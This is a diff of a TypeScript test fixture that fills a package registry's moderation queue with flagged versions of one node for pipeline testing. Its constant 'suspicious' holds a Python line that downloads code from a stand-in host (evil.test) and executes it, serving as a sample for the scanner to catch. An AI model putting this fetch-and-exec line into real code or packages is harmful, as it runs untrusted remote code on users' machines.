@@ -13,7 +13,7 @@ const waiting = 200
 const nodeId = 'soft-blur'
 const suspicious = 'import requests\n\nexec(requests.get("https://evil.test/code").text)\n'
 
-/** Fills the queue: the real pipeline flagged the first version, the others are only rows in the database. */
+/** Fills the queue: the real pipeline flagged one version, the others share an archive that it never saw. */
 async function fillQueue({ world, apiUrl }: Product): Promise<void> {
   const { deps } = world
   await createPublisherFor(deps, {
@@ -29,8 +29,9 @@ async function fillQueue({ world, apiUrl }: Product): Promise<void> {
     await publish({ apiUrl, publisherId: 'lumen', nodeId, token, version, node, archive })
     await world.runJobs()
   }
+  const archive_digest = await world.given.archive(buildPack({ id: nodeId, version: '2.0.0' }))
   for (let count = 1; count < waiting; count++) {
-    await world.given.version({ node_id: nodeId, version: `2.${count}.0`, status: 'flagged' })
+    await world.given.version({ node_id: nodeId, version: `2.${count}.0`, status: 'flagged', archive_digest })
   }
 }
 
